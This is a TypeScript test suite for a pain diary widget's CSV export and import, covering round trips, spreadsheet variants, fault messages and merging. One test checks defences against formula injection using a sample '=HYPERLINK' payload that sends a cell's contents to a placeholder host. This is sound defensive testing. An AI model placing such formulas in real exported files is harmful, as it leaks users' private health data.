/** The diary as a file: RFC 4180, no formulas, a true round trip, and faults told by line and column. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { compare, fromCsv, toCsv } from '../../src/widgets/pain-diary/csv.js';
import {
  keyOf,
  rawOf,
  read,
  runs,
  sides,
  sleeps,
  times,
  type Entry,
} from '../../src/widgets/pain-diary/entry.model.js';
import { addDays } from '../../src/ui/dates.js';

const today = '2026-11-25';
const lists = { places: ['centre', 'left', 'buttock'], exercises: ['E01', 'E05a', 'walk'] };
const load = (file: string) => fromCsv(file, today, lists);
const plain: Entry = { date: '2026-11-20', time: 'morning', average: 3, worst: 5, now: 2 };
const header = 'date,time,average,worst,now';

const wild = fc
  .oneof(
    fc.string({ unit: 'grapheme', maxLength: 60 }),
    fc.string({
      unit: fc.constantFrom('=', '+', '-', '@', "'", '"', ',', ';', '\t', '\r', '\n', ' ', 'a', '＝', '\u0000'),
    }),
  )
  .map((text) => text.trim())
  .filter((text) => text !== '' && text.length <= 500);
const number = (max: number) => fc.integer({ min: 0, max });
const tenths = (max: number) => number(max * 10).map((n) => n / 10);
const run = fc.record(
  {
    run: fc.constantFrom(...runs.slice(1)),
    stage: number(8),
    minutes: tenths(600),
    distance: tenths(60),
    during: number(10),
    after: number(10),
    stride: fc.constant(true as const),
    lasted: fc.constant(true as const),
  },
  { requiredKeys: ['run'] },
);
const rest = fc.record(
  {
    tingling: fc.constantFrom(...sides),
    numbness: fc.constantFrom(...sides),
    weakness: fc.constantFrom(...sides),
    places: fc.subarray(lists.places, { minLength: 1 }),
    limited: number(10),
    stiff: number(600),
    walk: number(600),
    exercises: fc.subarray(lists.exercises, { minLength: 1 }),
    hours: tenths(24),
    sleep: fc.constantFrom(...sleeps),
    sitting: tenths(24),
    medicine: wild,
    notes: wild,
  },
  { requiredKeys: [] },
);
const anyEntry: fc.Arbitrary<Entry> = fc
  .tuple(
    number(9000),
    fc.constantFrom(...times),
    number(10),
    number(10),
    number(10),
    fc.oneof(run, fc.constant({})),
    rest,
  )
  .map(([day, time, a, b, now, ran, other]) => ({
    date: addDays('2001-01-01', day),
    time,
    average: Math.min(a, b),
    worst: Math.max(a, b),
    now,
    ...ran,
    ...other,
  }));
const diaries = fc.uniqueArray(anyEntry, { selector: keyOf, maxLength: 12 });

test('whatever the reader wrote comes back from the file as it was', () => {
  fc.assert(
    fc.property(diaries, (entries) => {
      const found = load(toCsv(entries));
      assert.deepEqual(found.faults, []);
      assert.deepEqual(found.entries, entries);
    }),
    { numRuns: 500 },
  );
});

test('so it does after a spreadsheet with semicolons, tabs, other line ends or a byte order mark saved it', () => {
  fc.assert(
    fc.property(diaries, fc.constantFrom(';', '\t'), (entries, comma) => {
      const rows = cells(toCsv(entries));
      const quoted = (cell: string) => `"${cell.replaceAll('"', '""')}"`;
      const other = rows.map((row) => row.map(quoted).join(comma)).join('\n');
      assert.deepEqual(load(`\ufeff${other}`), { entries, faults: [] });
    }),
    { numRuns: 100 },
  );
});

test('no cell begins like a formula', () => {
  fc.assert(
    fc.property(diaries, (entries) => {
      for (const cell of cells(toCsv(entries)).flat()) assert.doesNotMatch(cell, /^\s*[=+\-@|%＝＋－＠\t\r]/);
    }),
    { numRuns: 300 },
  );
  const file = toCsv([{ ...plain, notes: '=HYPERLINK("http://x.test?"&A1,"click")', medicine: '@SUM(1)' }]);
  assert.ok(file.includes(`'@SUM(1),"'=HYPERLINK(""http`));
});

test('nothing that is not a file throws, and nothing is read from it', () => {
  fc.assert(
    fc.property(fc.string({ unit: 'binary', maxLength: 400 }), (file) => {
      assert.deepEqual(load(file).entries, []);
      assert.ok(load(file).faults.length > 0);
    }),
    { numRuns: 300 },
  );
});

test('a damaged file keeps its whole rows and tells of the others', () => {
  fc.assert(
    fc.property(diaries, number(2000), fc.string({ maxLength: 5 }), (entries, place, junk) => {
      const file = toCsv(entries);
      const at = Math.min(place, file.length);
      const found = load(file.slice(0, at) + junk + file.slice(at + 1));
      for (const entry of found.entries) assert.deepEqual(read(rawOf(entry), today).entry, entry);
      assert.ok(found.entries.length + found.faults.length >= Math.min(entries.length, 1));
    }),
    { numRuns: 300 },
  );
});

test('lines end as RFC 4180 says, and quotes stand where they must', () => {
  const file = toCsv([{ ...plain, notes: 'one, "two"\nthree' }]);
  assert.match(
    file,
    /^date,time,average,worst,now,tingling,.*,notes\r\n2026-11-20,morning,3,5,2,.*,"one, ""two""\nthree"\r\n$/,
  );
});

const faulty: readonly [name: string, file: string, ...faults: string[]][] = [
  ['nothing', '', '1  empty'],
  [
    'no header',
    '2026-11-20,morning,3,5,2',
    '1 2026-11-20 column',
    '1 morning column',
    '1 3 column',
    '1 5 column',
    '1 2 column',
    '1 date missing',
    '1 time missing',
    '1 average missing',
    '1 worst missing',
    '1 now missing',
  ],
  ['a column that is missing', 'date,time,average,worst\n2026-11-20,morning,3,5', '1 now missing'],
  ['a column that is not known', `${header},mood\n2026-11-20,morning,3,5,2,low`, '1 mood column'],
  ['a column twice', `${header},now\n2026-11-20,morning,3,5,2,4`, '1 now column'],
  ['a worst below the average', `${header}\n2026-11-20,morning,3,2,2`, '2 worst worst'],
  ['two wrong cells', `${header}\n\n2026-11-20,noon,x,5,2`, '3 time choice', '3 average number'],
  ['a date of a spreadsheet', `${header}\n20/11/2026,morning,3,5,2`, '2 date date'],
  ['a day ahead', `${header}\n2026-11-26,morning,3,5,2`, '2 date future'],
  ['too few cells', `${header}\n2026-11-20,morning,3,5`, '2  cells'],
  [
    'a quote that never ends',
    `${header},notes\n2026-11-20,morning,3,5,2,"lost\n2026-11-21,morning,3,5,2,x`,
    '2  quote',
  ],
  ['a half day twice', `${header}\n2026-11-20,morning,3,5,2\n2026-11-20,morning,4,5,2`, '3 date twice'],
  [
    'a fault after a text of two lines',
    `${header},notes\r\n2026-11-20,morning,3,5,2,"a\r\nb"\r\n2026-11-21,morning,3,5,99,x`,
    '4 now range',
  ],
];
for (const [name, file, ...faults] of faulty) {
  test(`tells line and column of ${name}`, () => {
    assert.deepEqual(
      load(file).faults.map(({ line, column, problem }) => `${line} ${column} ${problem}`),
      faults,
    );
  });
}

test('rows beside a faulty one are read', () => {
  const { entries } = load(`${header}\n2026-11-20,morning,3,5,2\nx,y,z\n2026-11-21,evening,1,1,0`);
  assert.deepEqual(entries.map(keyOf), ['2026-11-20 1', '2026-11-21 2']);
});

test('a file is compared before it is added', () => {
  const own: Entry[] = [plain, { ...plain, time: 'evening' }];
  const merge = compare(own, [plain, { ...plain, time: 'evening', now: 9 }, { ...plain, date: '2026-11-21' }]);
  assert.deepEqual([merge.added.length, merge.differing.length, merge.unchanged], [1, 1, 1]);
});

/** A second reader of the format, so that the widget's own is not its own judge. */
function cells(file: string): string[][] {
  const rows: string[][] = [[]];
  for (const [, quoted, bare, end] of file.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g)) {
    rows[rows.length - 1]?.push(quoted?.replaceAll('""', '"') ?? bare ?? '');
    if (end === '\r\n') rows.push([]);
  }
  return rows.slice(0, -1);
}
